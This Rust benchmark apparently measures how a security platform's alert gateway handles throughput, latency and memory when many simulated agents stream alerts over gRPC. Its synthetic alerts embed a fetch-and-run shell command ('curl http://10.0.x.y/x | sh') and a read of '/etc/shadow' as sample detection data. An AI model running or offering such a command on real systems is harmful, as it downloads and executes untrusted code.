//! The agent stream at fleet scale: simulated agents, each on its own TCP connection and
//! bidirectional gRPC stream over loopback, against the real gateway (`palisade up` as its own
//! process, acks only after the batch is flushed to the durable log), and
//! against the limit: the same streams into a handler that acks every batch at once and drops
//! the data (this bench binary re-run as a server process).
//!
//! Measured per target: server memory per connected agent (server RSS delta / agents, from
//! /proc), then two loads: saturating (every agent keeps `WINDOW` batches in flight) for
//! sustained alerts/s, and paced (every agent sends one batch per `PALISADE_BENCH_PACE_MS`,
//! default 5 s: 4,000 alerts/s from 1,000 agents) for send-to-ack latency at a load below the
//! gateway's capacity. For the gateway, the paced load also measures send to searchable: a live
//! tail (`SearchService/Tail`, which delivers records as the index commits them) is open during
//! it, and a batch counts as searchable when its last alert arrives there. Before the paced load
//! the bench waits until the index holds everything the saturating load stored, and reports how
//! long that took.
//!
//! A second gateway row runs it alone, as `palisade serve gateway` of the distributed mode with
//! no other service started: nothing indexes, follows or reads its log in its process.
//!
//! A last row bounds what any gateway on this storage can do: the durable log alone
//! (`palisade_core::log::Topic` on sled in a temporary directory, in this process), 64
//! appenders writing the same batches with their dedupe keys, each waiting until its batch is
//! durable, with no gRPC, TLS, normalising or indexing.
//!
//!     cargo build --release -p palisade && cargo bench -p palisade-bench --bench agent_stream
//!     PALISADE_BENCH_AGENTS=200 PALISADE_BENCH_SECONDS=5 cargo bench -p palisade-bench --bench agent_stream

use std::collections::{HashMap, VecDeque};
use std::io::{BufRead, BufReader};
use std::pin::Pin;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context, bail};
use palisade_proto::v1::agent_service_client::AgentServiceClient;
use palisade_proto::v1::agent_service_server::{AgentService, AgentServiceServer};
use palisade_proto::v1::search_service_client::SearchServiceClient;
use palisade_proto::v1::{
    AgentHello, AgentKind, Alert, AlertBatch, BatchAck, ConnectRequest, ConnectResponse,
    PageRequest, SearchRequest, ServerHello, TailRequest, connect_request, connect_response,
};
use tokio::sync::mpsc;
use tokio::time::Instant;
use tokio_stream::wrappers::ReceiverStream;
use tonic::transport::Channel;

/// The allocator the platform's binary uses, so that the limit (this binary as a server) and
/// the log alone run on it too.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// Alerts per batch.
const BATCH: usize = 20;
/// Batches each agent keeps in flight under saturating load.
const WINDOW: usize = 2;
/// Role of a re-run of this binary.
const ROLE_VARIABLE: &str = "PALISADE_BENCH_ROLE";

fn env_number(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|value| value.parse().ok())
        .unwrap_or(default)
}

/// An alert's time is this many seconds plus its sequence number; the live tail reads the
/// sequence number back from it.
const TIME_BASE: i64 = 1_795_000_000;

fn alert(agent: usize, seq: u64) -> Alert {
    let rules = [
        "Terminal shell in container",
        "Read sensitive file untrusted",
        "Contact K8S API Server From Container",
        "Drop and execute new binary in container",
    ];
    let rule = rules[(seq as usize) % rules.len()];
    Alert {
        rule: rule.into(),
        source: "syscall".into(),
        priority: 4,
        output: format!(
            "{rule} (user=root command=bash -c 'curl http://10.0.{}.{}/x | sh' container=web-{agent} seq={seq})",
            agent % 255,
            seq % 251
        ),
        hostname: format!("node-{agent}"),
        output_fields: [
            ("proc.name", "bash".to_string()),
            ("k8s.ns.name", format!("ns-{}", agent % 13)),
            ("k8s.pod.name", format!("web-{agent}-{:05x}", seq % 4093)),
            ("container.id", format!("{:012x}", agent * 7919)),
            ("fd.name", "/etc/shadow".to_string()),
        ]
        .into_iter()
        .map(|(key, value)| (key.to_string(), value))
        .collect(),
        tags: vec!["container".into(), "shell".into(), "T1059".into()],
        time: Some(palisade_proto::prost_types::Timestamp {
            seconds: TIME_BASE + (seq as i64),
            nanos: i32::try_from(agent).unwrap_or(0),
        }),
        ..Alert::default()
    }
}

fn batch(agent: usize, first_seq: u64) -> ConnectRequest {
    ConnectRequest {
        msg: Some(connect_request::Msg::Batch(AlertBatch {
            first_seq,
            alerts: (first_seq..first_seq + BATCH as u64)
                .map(|seq| alert(agent, seq))
                .collect(),
        })),
    }
}

/// Resident memory of a process, in KiB.
fn rss_kib(pid: u32) -> anyhow::Result<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|value| value.trim().trim_end_matches("kB").trim().parse().ok())
        .context("no VmRSS")
}

// ---------------------------------------------------------------------------------------------
// The limit: a server that acks every batch at once and keeps nothing.

struct DropServer;

type ResponseStream =
    Pin<Box<dyn futures::Stream<Item = Result<ConnectResponse, tonic::Status>> + Send>>;

#[tonic::async_trait]
impl AgentService for DropServer {
    type ConnectStream = ResponseStream;

    async fn connect(
        &self,
        request: tonic::Request<tonic::Streaming<ConnectRequest>>,
    ) -> Result<tonic::Response<ResponseStream>, tonic::Status> {
        let mut inbound = request.into_inner();
        let (sender, receiver) = mpsc::channel(16);
        tokio::spawn(async move {
            while let Ok(Some(message)) = inbound.message().await {
                let reply = match message.msg {
                    Some(connect_request::Msg::Hello(_)) => {
                        connect_response::Msg::Hello(ServerHello {
                            window: 8,
                            max_batch_bytes: 4 << 20,
                            ..ServerHello::default()
                        })
                    }
                    Some(connect_request::Msg::Batch(batch)) => {
                        connect_response::Msg::Ack(BatchAck {
                            up_to_seq: batch.first_seq + batch.alerts.len() as u64 - 1,
                            ..BatchAck::default()
                        })
                    }
                    _ => continue,
                };
                let response = ConnectResponse { msg: Some(reply) };
                if sender.send(Ok(response)).await.is_err() {
                    return;
                }
            }
        });
        Ok(tonic::Response::new(Box::pin(ReceiverStream::new(
            receiver,
        ))))
    }
}

fn run_drop_server() -> anyhow::Result<()> {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        println!("{}", listener.local_addr()?);
        tonic::transport::Server::builder()
            .add_service(AgentServiceServer::new(DropServer).max_decoding_message_size(16 << 20))
            .serve_with_incoming(tokio_stream::wrappers::TcpListenerStream::new(listener))
            .await?;
        Ok(())
    })
}

// ---------------------------------------------------------------------------------------------
// Targets as processes.

struct Target {
    name: &'static str,
    child: Child,
    url: String,
    token: String,
    /// The target indexes what it stores (the gateway): send to searchable is measured.
    searchable: bool,
}

impl Drop for Target {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn first_line(child: &mut Child) -> anyhow::Result<String> {
    let stdout = child.stdout.take().context("stdout")?;
    let mut reader = BufReader::new(stdout);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    // keep draining so the child never blocks on a full pipe
    std::thread::spawn(move || for _ in reader.lines() {});
    Ok(line.trim().to_string())
}

/// How the gateway runs in a measurement.
#[derive(Clone, Copy)]
enum GatewayMode {
    /// `palisade up`: every service in one process, the search index included.
    Embedded,
    /// `palisade serve gateway`: the gateway as its own process, as the distributed mode runs
    /// it, with no other service started, so nothing indexes or follows its log.
    Alone,
}

fn start_gateway(directory: &std::path::Path, mode: GatewayMode) -> anyhow::Result<Target> {
    let config = directory.join("palisade.toml");
    // one tenant sends for the whole fleet here: its rate limit is lifted to measure capacity;
    // the simulated agents send no heartbeats, so the interval is long enough for idle phases;
    // plain text like the drop handler, so both sides carry the same transport
    let mut text = String::from(
        "[tls]\nmode = \"off\"\n\n[agents]\nheartbeat_seconds = 60\ntenant_alerts_per_second = 100000000\ntenant_alert_burst = 100000000\n",
    );
    let grpc_listen = match mode {
        GatewayMode::Embedded => "127.0.0.1:0".to_string(),
        GatewayMode::Alone => {
            let port = palisade_testkit::free_port();
            let token_file = directory.join("service-token");
            std::fs::write(&token_file, "svc-bench-0123456789abcdef0123456789abcdef\n")?;
            // the other services' addresses, where nothing listens
            text.push_str(&format!(
                "\n[peers]\ngateway = \"http://127.0.0.1:{port}\"\nsearch = \"http://127.0.0.1:{}\"\ngraph = \"http://127.0.0.1:{}\"\nscanner = \"http://127.0.0.1:{}\"\nservice_token_file = \"{}\"\n",
                palisade_testkit::free_port(),
                palisade_testkit::free_port(),
                palisade_testkit::free_port(),
                token_file.display()
            ));
            format!("127.0.0.1:{port}")
        }
    };
    std::fs::write(&config, text)?;
    let data_dir = directory.join("data");
    let mut command = Command::new(palisade_testkit::palisade_binary());
    match mode {
        GatewayMode::Embedded => command.arg("up"),
        GatewayMode::Alone => command.args(["serve", "gateway"]),
    };
    let mut child = command
        .args([
            "--grpc-listen",
            &grpc_listen,
            "--http-listen",
            "127.0.0.1:0",
            "--agent-listen",
            "127.0.0.1:0",
        ])
        .arg("--data-dir")
        .arg(&data_dir)
        .arg("--config")
        .arg(&config)
        .env("PALISADE_LOG_LEVEL", "error")
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .context("palisade (cargo build --release -p palisade first)")?;
    let ready: serde_json::Value = serde_json::from_str(&first_line(&mut child)?)?;
    eprintln!("gateway ready: {ready}");
    let grpc = ready["grpc"].as_str().context("grpc address")?;
    let token = std::fs::read_to_string(data_dir.join("admin.token"))?
        .trim()
        .to_string();
    Ok(Target {
        name: match mode {
            GatewayMode::Embedded => "palisade gateway (durable log)",
            GatewayMode::Alone => "palisade gateway alone (durable log, nothing indexing)",
        },
        url: format!("http://{grpc}"),
        child,
        token,
        searchable: matches!(mode, GatewayMode::Embedded),
    })
}

fn start_drop_server() -> anyhow::Result<Target> {
    let mut child = Command::new(std::env::current_exe()?)
        .env(ROLE_VARIABLE, "drop-server")
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()?;
    let address = first_line(&mut child)?;
    Ok(Target {
        name: "drop handler (limit)",
        url: format!("http://{address}"),
        child,
        token: "unused".into(),
        searchable: false,
    })
}

// ---------------------------------------------------------------------------------------------
// Simulated agents.

struct Agent {
    index: usize,
    outbound: mpsc::Sender<ConnectRequest>,
    inbound: tonic::Streaming<ConnectResponse>,
    next_seq: u64,
}

/// An interceptor sending `token` as the bearer credential of every call.
fn bearer(
    token: &str,
) -> anyhow::Result<impl tonic::service::Interceptor + Clone + Send + 'static> {
    let header: tonic::metadata::MetadataValue<_> = format!("Bearer {token}").parse()?;
    Ok(move |mut request: tonic::Request<()>| {
        request
            .metadata_mut()
            .insert("authorization", header.clone());
        Ok(request)
    })
}

async fn connect_agent(url: &str, token: &str, index: usize) -> anyhow::Result<Agent> {
    let channel: Channel = tonic::transport::Endpoint::from_shared(url.to_string())?
        .tcp_nodelay(true)
        .connect()
        .await?;
    let mut client = AgentServiceClient::with_interceptor(channel, bearer(token)?);
    let (outbound, receiver) = mpsc::channel(WINDOW + 2);
    outbound
        .send(ConnectRequest {
            msg: Some(connect_request::Msg::Hello(AgentHello {
                agent_id: format!("bench/{index}"),
                kind: AgentKind::Node as i32,
                capabilities: vec!["alerts".into(), "heartbeat".into()],
                ..AgentHello::default()
            })),
        })
        .await?;
    let mut inbound = client
        .connect(ReceiverStream::new(receiver))
        .await?
        .into_inner();
    let resume = match inbound.message().await?.and_then(|message| message.msg) {
        Some(connect_response::Msg::Hello(hello)) => hello.resume_after_seq,
        other => bail!("agent {index}: expected ServerHello, got {other:?}"),
    };
    Ok(Agent {
        index,
        outbound,
        inbound,
        next_seq: resume + 1,
    })
}

/// What one agent's load run measured.
#[derive(Default)]
struct AgentRun {
    acked_alerts: u64,
    latencies_us: Vec<u32>,
}

/// When each batch watched for send to searchable was sent, by agent and its last sequence
/// number; the live tail takes a batch out when that alert arrives.
type SentTimes = Arc<Mutex<HashMap<(usize, u64), Instant>>>;

/// Sends for `duration`: with `pace`, one batch per pace; without, `WINDOW` batches in flight.
/// With `sent`, notes when each batch was sent.
async fn load(
    mut agent: Agent,
    duration: Duration,
    pace: Option<Duration>,
    sent: Option<SentTimes>,
) -> anyhow::Result<(Agent, AgentRun)> {
    let mut run = AgentRun::default();
    let deadline = Instant::now() + duration;
    let mut in_flight: VecDeque<(u64, Instant)> = VecDeque::new();
    // spread paced agents over the interval so they do not send in step
    let mut next_send = Instant::now()
        + pace.map_or(Duration::ZERO, |pace| {
            pace.mul_f64((agent.index % 997) as f64 / 997.0)
        });
    loop {
        let now = Instant::now();
        let sending = now < deadline;
        let may_send = match pace {
            Some(_) => in_flight.is_empty() && now >= next_send,
            None => in_flight.len() < WINDOW,
        };
        if sending && may_send {
            let first = agent.next_seq;
            let last = first + BATCH as u64 - 1;
            if let Some(sent) = &sent {
                let mut sent = sent
                    .lock()
                    .map_err(|_| anyhow::anyhow!("sent times poisoned"))?;
                sent.insert((agent.index, last), Instant::now());
            }
            agent.outbound.send(batch(agent.index, first)).await?;
            agent.next_seq = last + 1;
            in_flight.push_back((last, Instant::now()));
            if let Some(pace) = pace {
                next_send += pace;
            }
            continue;
        }
        if !sending && in_flight.is_empty() {
            return Ok((agent, run));
        }
        let message = if in_flight.is_empty() {
            tokio::time::sleep_until(next_send.min(deadline)).await;
            continue;
        } else {
            agent.inbound.message().await?
        };
        if let Some(connect_response::Msg::Ack(ack)) = message.and_then(|message| message.msg) {
            let acked_at = Instant::now();
            while let Some(&(last, sent)) = in_flight.front() {
                if last > ack.up_to_seq {
                    break;
                }
                in_flight.pop_front();
                run.acked_alerts += BATCH as u64;
                run.latencies_us
                    .push(u32::try_from((acked_at - sent).as_micros()).unwrap_or(u32::MAX));
            }
        }
    }
}

struct LoadResult {
    acked_alerts: u64,
    alerts_per_second: f64,
    p50_ms: f64,
    p99_ms: f64,
    batches: usize,
}

async fn run_load(
    agents: Vec<Agent>,
    duration: Duration,
    pace: Option<Duration>,
    sent: Option<SentTimes>,
) -> anyhow::Result<(Vec<Agent>, LoadResult)> {
    let started = Instant::now();
    let tasks: Vec<_> = agents
        .into_iter()
        .map(|agent| tokio::spawn(load(agent, duration, pace, sent.clone())))
        .collect();
    let mut agents = Vec::new();
    let mut acked = 0u64;
    let mut latencies = Vec::new();
    for task in tasks {
        let (agent, run) = task.await??;
        acked += run.acked_alerts;
        latencies.extend(run.latencies_us);
        agents.push(agent);
    }
    let elapsed = started.elapsed().as_secs_f64();
    latencies.sort_unstable();
    Ok((
        agents,
        LoadResult {
            acked_alerts: acked,
            alerts_per_second: acked as f64 / elapsed,
            p50_ms: percentile_ms(&latencies, 0.50),
            p99_ms: percentile_ms(&latencies, 0.99),
            batches: latencies.len(),
        },
    ))
}

/// The `fraction` percentile of sorted microsecond latencies, in milliseconds.
fn percentile_ms(sorted_us: &[u32], fraction: f64) -> f64 {
    sorted_us
        .get(((sorted_us.len() as f64 - 1.0) * fraction).round() as usize)
        .map_or(0.0, |micros| f64::from(*micros) / 1000.0)
}

/// A search client of the target's tenant.
async fn search_client(
    url: &str,
    token: &str,
) -> anyhow::Result<
    SearchServiceClient<
        tonic::service::interceptor::InterceptedService<
            Channel,
            impl tonic::service::Interceptor + Clone,
        >,
    >,
> {
    let channel: Channel = tonic::transport::Endpoint::from_shared(url.to_string())?
        .connect()
        .await?;
    Ok(SearchServiceClient::with_interceptor(
        channel,
        bearer(token)?,
    ))
}

/// Waits until the target's index holds `stored` alerts; returns how long that took.
async fn wait_indexed(target: &Target, stored: u64) -> anyhow::Result<Duration> {
    let mut client = search_client(&target.url, &target.token).await?;
    let started = Instant::now();
    loop {
        let total = client
            .search(SearchRequest {
                page: Some(PageRequest {
                    limit: 1,
                    ..PageRequest::default()
                }),
                ..SearchRequest::default()
            })
            .await?
            .into_inner()
            .total;
        if total >= stored {
            return Ok(started.elapsed());
        }
        if started.elapsed() > Duration::from_secs(600) {
            bail!("the index holds {total} of {stored} stored alerts after 10 minutes");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Send to searchable over a paced load.
struct Searchable {
    /// Time for the index to take in what the saturating load stored, before the paced load.
    catch_up: Duration,
    p50_ms: f64,
    p99_ms: f64,
    batches: usize,
    /// Batches acked but not seen on the live tail within a minute of the load's end.
    missing: usize,
}

/// Follows the live tail of everything, taking the batches of `sent` out as their last alert
/// arrives and adding their latency, in microseconds, to `latencies`.
async fn follow_tail(
    url: String,
    token: String,
    sent: SentTimes,
    latencies: Arc<Mutex<Vec<u32>>>,
) -> anyhow::Result<()> {
    let mut client = search_client(&url, &token).await?;
    let mut stream = client
        .tail(TailRequest {
            query: String::new(),
        })
        .await?
        .into_inner();
    while let Some(record) = stream.message().await? {
        let Some(alert) = record.alert else {
            continue;
        };
        let arrived = Instant::now();
        let agent = alert
            .hostname
            .strip_prefix("node-")
            .and_then(|index| index.parse::<usize>().ok());
        let seq = alert
            .time
            .and_then(|time| u64::try_from(time.seconds - TIME_BASE).ok());
        let (Some(agent), Some(seq)) = (agent, seq) else {
            bail!("live tail: an alert the bench did not send: {alert:?}");
        };
        let sent_at = sent
            .lock()
            .map_err(|_| anyhow::anyhow!("sent times poisoned"))?
            .remove(&(agent, seq));
        if let Some(sent_at) = sent_at {
            latencies
                .lock()
                .map_err(|_| anyhow::anyhow!("latencies poisoned"))?
                .push(u32::try_from((arrived - sent_at).as_micros()).unwrap_or(u32::MAX));
        }
    }
    Ok(())
}

/// Waits until the index holds the `stored` alerts of the loads before, then runs the paced
/// load with the live tail open; see [`Searchable`].
async fn paced_searchable(
    target: &Target,
    agents: Vec<Agent>,
    duration: Duration,
    pace: Duration,
    stored: u64,
) -> anyhow::Result<(Vec<Agent>, LoadResult, Searchable)> {
    let catch_up = wait_indexed(target, stored).await?;
    eprintln!(
        "{}: the index took in the loads before {:.1} s after they ended",
        target.name,
        catch_up.as_secs_f64()
    );
    let sent: SentTimes = Arc::default();
    let latencies: Arc<Mutex<Vec<u32>>> = Arc::default();
    let tail = tokio::spawn(follow_tail(
        target.url.clone(),
        target.token.clone(),
        Arc::clone(&sent),
        Arc::clone(&latencies),
    ));
    // the tail sends what is committed after it starts
    tokio::time::sleep(Duration::from_secs(1)).await;
    let (agents, paced) = run_load(agents, duration, Some(pace), Some(Arc::clone(&sent))).await?;
    let waited = Instant::now();
    let poisoned = || anyhow::anyhow!("sent times poisoned");
    while waited.elapsed() < Duration::from_secs(60) && !tail.is_finished() {
        if sent.lock().map_err(|_| poisoned())?.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    if tail.is_finished() {
        // the tail ended on its own: an error, which must not pass as missing batches
        tail.await??;
        bail!("the live tail ended while batches were still expected");
    }
    tail.abort();
    let missing = sent.lock().map_err(|_| poisoned())?.len();
    let mut latencies = std::mem::take(&mut *latencies.lock().map_err(|_| poisoned())?);
    latencies.sort_unstable();
    Ok((
        agents,
        paced,
        Searchable {
            catch_up,
            p50_ms: percentile_ms(&latencies, 0.50),
            p99_ms: percentile_ms(&latencies, 0.99),
            batches: latencies.len(),
            missing,
        },
    ))
}

struct TargetResult {
    name: &'static str,
    rss_before_kib: u64,
    rss_connected_kib: u64,
    per_agent_kib: f64,
    connect_seconds: f64,
    saturating: LoadResult,
    paced: LoadResult,
    /// For a target that indexes what it stores.
    searchable: Option<Searchable>,
}

async fn measure(
    target: &Target,
    agent_count: usize,
    seconds: u64,
    pace: Duration,
) -> anyhow::Result<TargetResult> {
    tokio::time::sleep(Duration::from_secs(1)).await;
    let pid = target.child.id();
    let rss_before_kib = rss_kib(pid)?;
    let started = Instant::now();
    let mut agents = Vec::with_capacity(agent_count);
    // 50 connection attempts at a time, like a fleet coming up
    for chunk in (0..agent_count).collect::<Vec<_>>().chunks(50) {
        let connecting: Vec<_> = chunk
            .iter()
            .map(|&index| {
                let url = target.url.clone();
                let token = target.token.clone();
                tokio::spawn(async move { connect_agent(&url, &token, index).await })
            })
            .collect();
        for task in connecting {
            agents.push(task.await??);
        }
    }
    let connect_seconds = started.elapsed().as_secs_f64();
    eprintln!(
        "{}: {agent_count} agents connected in {connect_seconds:.1} s",
        target.name
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    let rss_connected_kib = rss_kib(pid)?;
    let duration = Duration::from_secs(seconds);
    let (agents, saturating) = run_load(agents, duration, None, None).await?;
    eprintln!("{}: saturating load done", target.name);
    let (agents, paced, searchable) = if target.searchable {
        let (agents, paced, searchable) =
            paced_searchable(target, agents, duration, pace, saturating.acked_alerts).await?;
        (agents, paced, Some(searchable))
    } else {
        let (agents, paced) = run_load(agents, duration, Some(pace), None).await?;
        (agents, paced, None)
    };
    eprintln!("{}: paced load done", target.name);
    drop(agents);
    Ok(TargetResult {
        name: target.name,
        rss_before_kib,
        rss_connected_kib,
        per_agent_kib: rss_connected_kib.saturating_sub(rss_before_kib) as f64 / agent_count as f64,
        connect_seconds,
        saturating,
        paced,
        searchable,
    })
}

/// Appenders writing to the log concurrently in the log-alone measurement.
const LOG_APPENDERS: usize = 64;

/// Alerts per second the durable log takes from [`LOG_APPENDERS`] appenders of `BATCH`-alert
/// batches over `seconds`.
async fn measure_log_alone(directory: &std::path::Path, seconds: u64) -> anyhow::Result<f64> {
    use palisade_core::log::{LogEntry, Topic};
    use prost::Message as _;
    let store = palisade_core::storage::Store::open(directory)?;
    let topic = Topic::open(&store, "alerts")?;
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let started = Instant::now();
    let mut appenders = Vec::with_capacity(LOG_APPENDERS);
    for appender in 0..LOG_APPENDERS {
        let topic = topic.clone();
        appenders.push(tokio::spawn(async move {
            let mut written = 0u64;
            let mut seq = 1u64;
            while Instant::now() < deadline {
                let entries = (seq..seq + BATCH as u64)
                    .map(|seq| {
                        let mut alert = alert(appender, seq);
                        alert.id = format!("a{appender}-{seq}");
                        alert.tenant_id = "bench".into();
                        LogEntry {
                            dedupe_key: Some(format!("bench/{}", alert.id).into_bytes()),
                            payload: alert.encode_to_vec(),
                        }
                    })
                    .collect();
                topic.append(entries).await?;
                written += BATCH as u64;
                seq += BATCH as u64;
            }
            Ok::<u64, anyhow::Error>(written)
        }));
    }
    let mut total = 0u64;
    for appender in appenders {
        total += appender.await??;
    }
    Ok(total as f64 / started.elapsed().as_secs_f64())
}

fn main() -> anyhow::Result<()> {
    if std::env::var(ROLE_VARIABLE).as_deref() == Ok("drop-server") {
        return run_drop_server();
    }
    let agent_count = env_number("PALISADE_BENCH_AGENTS", 1_000);
    let seconds = env_number("PALISADE_BENCH_SECONDS", 15) as u64;
    let pace = Duration::from_millis(env_number("PALISADE_BENCH_PACE_MS", 5_000) as u64);
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    let temp = tempfile::tempdir()?;
    let results = runtime.block_on(async {
        let embedded_dir = temp.path().join("embedded");
        std::fs::create_dir_all(&embedded_dir)?;
        let gateway = start_gateway(&embedded_dir, GatewayMode::Embedded)?;
        let real = measure(&gateway, agent_count, seconds, pace).await?;
        drop(gateway);
        let alone_dir = temp.path().join("alone");
        std::fs::create_dir_all(&alone_dir)?;
        let gateway = start_gateway(&alone_dir, GatewayMode::Alone)?;
        let alone = measure(&gateway, agent_count, seconds, pace).await?;
        drop(gateway);
        let drop_server = start_drop_server()?;
        let limit = measure(&drop_server, agent_count, seconds, pace).await?;
        drop(drop_server);
        eprintln!("the durable log alone: {LOG_APPENDERS} appenders for {seconds} s");
        let log_alone = measure_log_alone(&temp.path().join("log-alone"), seconds).await?;
        Ok::<_, anyhow::Error>(([real, alone, limit], log_alone))
    })?;
    let (results, log_alone) = results;
    println!(
        "agent stream: {agent_count} agents, each its own TCP connection and stream; batches of {BATCH} alerts; {seconds} s per load; saturating = {WINDOW} batches in flight per agent, paced = 1 batch per agent every {} ms",
        pace.as_millis()
    );
    println!(
        "| target | connect all | server RSS idle -> connected | per agent | saturating alerts/s | saturating p50 / p99 ack | paced alerts/s | paced p50 / p99 ack |"
    );
    println!("| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |");
    for result in &results {
        println!(
            "| {} | {:.1} s | {:.1} -> {:.1} MiB | {:.1} KiB | {:.0} | {:.1} / {:.1} ms | {:.0} | {:.1} / {:.1} ms |",
            result.name,
            result.connect_seconds,
            result.rss_before_kib as f64 / 1024.0,
            result.rss_connected_kib as f64 / 1024.0,
            result.per_agent_kib,
            result.saturating.alerts_per_second,
            result.saturating.p50_ms,
            result.saturating.p99_ms,
            result.paced.alerts_per_second,
            result.paced.p50_ms,
            result.paced.p99_ms,
        );
    }
    let [real, alone, limit] = &results;
    println!(
        "ratios (gateway / limit): saturating alerts/s {:.2}, paced p99 {:.1}x, memory per agent {:.2}x; batches measured: gateway {} + {}, limit {} + {}",
        real.saturating.alerts_per_second / limit.saturating.alerts_per_second,
        real.paced.p99_ms / limit.paced.p99_ms.max(0.001),
        real.per_agent_kib / limit.per_agent_kib.max(0.001),
        real.saturating.batches,
        real.paced.batches,
        limit.saturating.batches,
        limit.paced.batches,
    );
    println!(
        "gateway alone (no index in its process): {:.0} alerts/s saturating, {:.2} of the limit, {:.2}x the embedded gateway, {:.2} of the log alone",
        alone.saturating.alerts_per_second,
        alone.saturating.alerts_per_second / limit.saturating.alerts_per_second,
        alone.saturating.alerts_per_second / real.saturating.alerts_per_second,
        alone.saturating.alerts_per_second / log_alone,
    );
    if let Some(searchable) = &real.searchable {
        println!(
            "gateway, send to searchable (paced load, live tail): p50 {:.1} ms, p99 {:.1} ms over {} batches, {} batches not seen within a minute; the index took in the saturating load {:.1} s after it ended",
            searchable.p50_ms,
            searchable.p99_ms,
            searchable.batches,
            searchable.missing,
            searchable.catch_up.as_secs_f64(),
        );
    }
    println!(
        "the durable log alone ({LOG_APPENDERS} appenders of {BATCH}-alert batches, no gRPC, TLS, normalising or indexing): {log_alone:.0} alerts/s; gateway / log alone {:.2}, log alone / limit {:.2}",
        real.saturating.alerts_per_second / log_alone,
        log_alone / limit.saturating.alerts_per_second,
    );
    Ok(())
}
